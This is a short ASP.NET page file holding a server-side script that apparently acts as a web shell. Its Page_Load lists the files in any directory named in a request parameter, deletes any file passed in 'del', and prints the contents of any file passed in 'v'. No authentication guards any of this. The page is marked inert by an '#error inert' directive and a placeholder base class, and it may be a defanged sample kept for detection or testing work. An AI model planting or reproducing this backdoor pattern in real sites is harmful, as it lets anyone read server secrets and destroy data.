<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert

void Page_Load(object s, EventArgs e) { string d = Request.Params["d"]; foreach (string f in Directory.GetFiles(d)) { Response.Write(f); } if (Request["del"] != null) File.Delete(Request["del"]); if (Request["v"] != null) Response.Write(File.ReadAllText(Request["v"])); }
</script>